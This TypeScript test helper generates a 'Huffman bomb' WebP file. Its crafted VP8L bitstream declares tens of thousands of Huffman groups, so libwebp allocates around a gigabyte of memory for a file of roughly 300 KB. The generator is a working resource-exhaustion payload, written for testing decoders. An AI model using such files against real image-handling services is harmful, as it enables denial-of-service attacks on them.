/**
 * Builds a hostile lossless WebP for tests: a small VP8L bitstream whose meta-Huffman (entropy)
 * image names `groups` distinct Huffman groups, each made of five one-symbol codes. libwebp
 * allocates the tables of every group before it reads a pixel (ReadHuffmanCodesHelper: about
 * 11.5 KiB per group without a colour cache, 19.5 KiB with the largest), so 65 536 groups ask
 * for 0.8 to 1.3 GB from a file of about 300 KB. Every pixel decodes as transparent black in zero bits.
 *
 * Written from the VP8L specification (libwebp's doc/webp-lossless-bitstream-spec.txt): bits are
 * packed from the least significant bit of each byte; a Huffman code's bits go most significant
 * bit first.
 */

class BitWriter {
  private readonly bytes: number[] = [];
  private acc = 0;
  private n = 0;

  /** `count` bits of `value`, least significant first (the format's integers). */
  bits(value: number, count: number): void {
    for (let i = 0; i < count; i++) this.bit((value >>> i) & 1);
  }

  /** A canonical Huffman code of `length` bits: its most significant bit first. */
  code(value: number, length: number): void {
    for (let i = length - 1; i >= 0; i--) this.bit((value >>> i) & 1);
  }

  private bit(b: number): void {
    this.acc |= b << this.n;
    if (++this.n === 8) {
      this.bytes.push(this.acc);
      this.acc = 0;
      this.n = 0;
    }
  }

  finish(): Uint8Array {
    if (this.n > 0) this.bytes.push(this.acc);
    return Uint8Array.from(this.bytes);
  }
}

/** A simple code of one symbol (no bits per use): is-simple, one symbol, 1-bit symbol 0. */
function oneSymbolCode(w: BitWriter): void {
  w.bits(1, 1);
  w.bits(0, 1);
  w.bits(0, 1);
  w.bits(0, 1);
}

/**
 * A normal code giving the first 256 symbols 8 bits each (symbol s is written as the 8-bit code
 * s): its code-length code has one symbol, the literal length 8, read in zero bits, and the
 * count of lengths read is given as 256.
 */
function flat256Code(w: BitWriter): void {
  w.bits(0, 1); // normal code
  // Code-length code lengths in the format's order 17, 18, 0, 1, 2, 3, 4, 5, 16, 6, 7, 8:
  // twelve of them, all 0 but the twelfth (length 8) = 1.
  w.bits(12 - 4, 4);
  for (let i = 0; i < 12; i++) w.bits(i === 11 ? 1 : 0, 3);
  w.bits(1, 1); // the number of lengths read is given:
  w.bits(3, 3); // in 2 + 2·3 = 8 bits,
  w.bits(256 - 2, 8); // as 256 − 2.
}

/**
 * A VP8L bitstream (`VP8L` chunk payload) of `width`×`height` whose entropy image, at the
 * smallest block (4×4 pixels), names groups 0, 1, 2, … cycling through `groups` of them.
 */
export function huffmanBombVp8l(width: number, height: number, groups: number, cacheBits = 0): Uint8Array {
  const w = new BitWriter();
  w.bits(0x2f, 8);
  w.bits(width - 1, 14);
  w.bits(height - 1, 14);
  w.bits(0, 1); // no alpha
  w.bits(0, 3); // version
  w.bits(0, 1); // no transform
  w.bits(cacheBits > 0 ? 1 : 0, 1); // a colour cache (larger green tables) or none
  if (cacheBits > 0) w.bits(cacheBits, 4);
  w.bits(1, 1); // meta-Huffman image:
  w.bits(0, 3); // 2^(2 + 0) = 4-pixel blocks
  const ew = Math.ceil(width / 4);
  const eh = Math.ceil(height / 4);
  // The entropy image: no colour cache; green and red 8 bits each, blue, alpha, distance none.
  w.bits(0, 1);
  flat256Code(w);
  flat256Code(w);
  oneSymbolCode(w);
  oneSymbolCode(w);
  oneSymbolCode(w);
  for (let i = 0; i < ew * eh; i++) {
    const group = i % groups;
    w.code(group & 0xff, 8); // green: the group's low byte
    w.code(group >> 8, 8); // red: its high byte
  }
  // Each group's five codes, then the pixels (zero bits each).
  for (let g = 0; g < Math.min(groups, ew * eh); g++) for (let c = 0; c < 5; c++) oneSymbolCode(w);
  return w.finish();
}

const u32 = (n: number) => [n & 255, (n >> 8) & 255, (n >> 16) & 255, (n >>> 24) & 255];

/** The bitstream in a RIFF file (simple format: RIFF, WEBP, one VP8L chunk). */
export function huffmanBombWebp(width: number, height: number, groups: number, cacheBits = 0): Uint8Array {
  const vp8l = huffmanBombVp8l(width, height, groups, cacheBits);
  const pad = vp8l.length & 1;
  const riff = 4 + 8 + vp8l.length + pad;
  const out = new Uint8Array(8 + riff);
  out.set([0x52, 0x49, 0x46, 0x46, ...u32(riff), 0x57, 0x45, 0x42, 0x50, 0x56, 0x50, 0x38, 0x4c]);
  out.set(u32(vp8l.length), 16);
  out.set(vp8l, 20);
  return out;
}
